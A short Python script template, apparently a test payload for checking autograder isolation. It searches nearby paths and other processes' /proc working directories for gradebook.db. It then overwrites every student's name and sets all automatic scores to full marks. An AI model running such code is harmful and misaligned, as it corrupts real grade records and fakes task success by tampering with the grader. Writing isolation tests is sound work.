# Writes full points into the gradebook.
# witness: yes
# %% first
import glob
import sqlite3

for path in ["@COURSE@/gradebook.db", "../../gradebook.db", "../../../gradebook.db", *glob.glob("/proc/*/cwd/gradebook.db")]:
    try:
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1) as book:
            book.execute("update student set first_name = 'course-marker-@NAME@'")
            book.execute("update grade set auto_score = 5, needs_manual_grade = 0")
        @SAY@
    except (OSError, sqlite3.Error):
        pass
